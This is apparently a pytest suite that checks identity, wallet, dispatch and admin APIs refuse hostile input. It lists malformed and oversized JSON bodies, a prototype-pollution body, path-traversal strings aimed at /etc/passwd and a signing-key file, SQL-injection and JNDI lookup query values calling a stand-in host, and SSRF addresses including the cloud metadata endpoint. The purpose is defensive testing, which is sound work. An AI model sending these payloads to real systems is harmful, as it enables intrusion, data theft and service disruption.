"""P10, Q2: bodies and paths that are made to do harm are refused, in words and quickly, and nothing fails by them."""

import pytest

import operations
from asking import Answer, ask, once

ALL = operations.all_operations()
PLACE = "/identity/v1/accounts/me/places"
BODIES = {
    "100 000 arrays in each other": b"[" * 100_000 + b"]" * 100_000,
    "100 000 objects in each other": b'{"a":' * 100_000 + b"1" + b"}" * 100_000,
    "a number of a million digits": b'{"latitude": ' + b"9" * 1_000_000 + b"}",
    "a number beyond all": b'{"coordinates": {"latitude": 1e999999, "longitude": -1e999999}}',
    "no number": b'{"coordinates": {"latitude": NaN, "longitude": Infinity}}',
    "a key twice": b'{"market": "carrepsa", "market": "btnc", "name": "x", "name": "y"}',
    "ten thousand keys": b"{" + b",".join(b'"k%d": 1' % number for number in range(10_000)) + b"}",
    "half a pair": b'{"name": "\\ud800"}',
    "a null in a text": b'{"name": "a\\u0000b", "label": "home", "market": "carrepsa"}',
    "bytes that are no text": b'{"name": "\xff\xfe\xc0\x80"}',
    "ten megabytes": b'{"name": "' + b"x" * 10_000_000 + b'"}',
    "nothing": b"", "null": b"null", "a text": b'"text"', "half of it": b'{"name": ', "more than it": b"{} {}", "UTF-16": '{"name": "x"}'.encode("utf-16"),
    "the prototype": b'{"__proto__": {"admin": true}, "constructor": {"prototype": {"admin": true}}, "roles": [{"market": "*", "role": "admin"}]}',
}


def is_refused(answer: Answer) -> None:
    assert 400 <= answer.status < 500, f"{answer.status} {answer.text[:300]}"
    assert answer.headers["content-type"].startswith("application/problem+json")
    assert answer.seconds < 10


# With a fresh log-in nothing more is asked for, and the caller would be gone.
WITHOUT = {"identity askDeletion"}
WITH_BODY = [one for one in ALL if one.method in ("post", "put", "patch") and "requestBody" in one.spec and one.key not in WITHOUT
             and operations.reviewed().get(one.key) in ("own", "open")]


@pytest.mark.parametrize("what", BODIES)
@pytest.mark.parametrize("operation", WITH_BODY, ids=lambda one: f"{one.service}-{one.id}")
def test_a_hostile_body(operation, what, town):
    if operation.id in ("usePlace", "takeWebhook") and what == "the prototype":
        pytest.skip("fields that nobody asks for are passed over")
    request = operations.request(operation, town.ids, "carrepsa", b"")
    kind = {name: value for name, value in request.headers.items() if name in ("Content-Type", "Idempotency-Key")}
    try:
        answer = ask(request.method, request.path, town.stranger.token, BODIES[what], kind)
    except (ConnectionResetError, BrokenPipeError):
        # A service answers, and closes, before so much is sent; who is still sending then does not always get to read it.
        assert what == "ten megabytes"
        return
    # What has no field that it must have takes an object of others for an empty one.
    if answer.status < 300:
        assert what in ("a key twice", "ten thousand keys", "a null in a text", "half a pair", "the prototype", "a number beyond all", "nothing"), answer.text[:200]
        return
    is_refused(answer)


PATHS = [
    "/identity/v1/accounts/%2e%2e/accounts/me", "/identity/v1/../v1/accounts/me", "/identity/%2e%2e/wallet/v1/cards", "//identity/v1/accounts/me",
    "/identity//v1/accounts/me", "/identity/v1/accounts/me/", "/identity/v1/accounts/me%00", "/identity/v1/accounts/me%2f", "/identity%2fv1/accounts/me",
    "/identity/v1/accounts/me;x=1", "/identity/v1/accounts/ME", "/identity/v1/accounts/me%20", "/identity/v1/accounts/%6de", "/identity/v1/accounts/me%0d%0aX:1",
    "/identity/v1/accounts/%c0%ae%c0%ae/me", "/identity/v1/accounts/%ff", "/assets/..%2f..%2f..%2fetc%2fpasswd", "/assets/%2e%2e/%2e%2e/etc/passwd",
    "/assets/....//....//etc/passwd", "/..%5c..%5cetc/passwd", "/site/carrepsa/en/..%2f..%2f..%2fetc%2fpasswd", "/site/..%2fadmin/v1/audit",
    "/admin/v1/markets/carrepsa/images/..%2f..%2fsettings", "/identity/v1/avatars/..%2f..%2fkeys%2ftoken-signing.json", "/dispatch/v1/markets/*/providers",
]


@pytest.mark.parametrize("path", PATHS)
def test_a_tricky_path_leads_nowhere_else(path, town):
    """Without a token nobody gets further than 401; with one, to nothing but the caller's own account."""
    answer = once("GET", path, {"Connection": "close"}, None)
    assert answer.status in (301, 308, 400, 401, 403, 404, 405, 414), f"{answer.status} {answer.text[:200]}"
    assert "root:" not in answer.text and '"d":' not in answer.text
    answer = once("GET", path, {"Authorization": f"Bearer {town.stranger.token}", "Connection": "close"}, None)
    assert answer.status < 500 and (answer.status >= 300 or town.stranger.account in answer.text or "items" in answer.text), answer.text[:200]
    assert [text for text in town.private() if text in answer.text] == []


@pytest.mark.parametrize("query", ["limit=-1", "limit=999999999999999999999", "limit=1e9", "cursor=%00", "cursor=" + "A" * 7_000, "limit=%ff", "a[]=1&a[]=2",
                                   "limit=1&limit=2", "cursor=' OR 1=1 --", "cursor=${jndi:ldap://elsewhere.example}", "cursor=../../etc/passwd"])
@pytest.mark.parametrize("path", ["/dispatch/v1/orders", "/wallet/v1/statement", "/notifications/v1/inbox", "/notifications/v1/conversations", PLACE])
def test_a_hostile_query(path, query, town):
    query = query.replace(" ", "%20").replace("'", "%27").replace("{", "%7B").replace("}", "%7D").replace("[", "%5B").replace("]", "%5D")
    answer = ask("GET", f"{path}?{query}", town.stranger.token)
    assert answer.status < 500 and answer.seconds < 10, answer.text[:200]


@pytest.mark.parametrize("address", ["http://127.0.0.1:1/", "http://169.254.169.254/latest/meta-data/", "file:///etc/passwd", "gopher://elsewhere.example/",
                                     "http://user:word@elsewhere.example/", "https://[::1]/", "https://localhost/"])
def test_a_feed_is_of_the_public_internet(address, town):
    form = {"url": address, "group": "local", "language": "en", "publishes": False, "active": True}
    is_refused(ask("POST", "/admin/v1/markets/carrepsa/feeds", town.steward.token, form))
